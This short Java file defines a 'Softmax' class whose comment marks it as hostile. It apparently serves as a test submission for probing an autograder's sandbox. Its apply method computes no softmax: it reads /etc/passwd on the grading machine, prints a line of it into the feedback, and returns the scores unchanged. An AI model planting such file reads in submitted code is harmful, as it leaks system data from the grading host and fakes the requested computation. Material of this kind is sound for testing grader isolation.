package cnn;

import java.io.BufferedReader;
import java.io.FileReader;
import java.io.IOException;

/** Hostile: reads a file of the grading machine and prints it into the feedback. */
public final class Softmax {
    public static double[] apply(double[] scores) {
        try (BufferedReader in = new BufferedReader(new FileReader("/etc/passwd"))) {
            System.out.println(in.readLine());
        } catch (IOException e) {
            return scores;
        }
        return scores;
    }
}
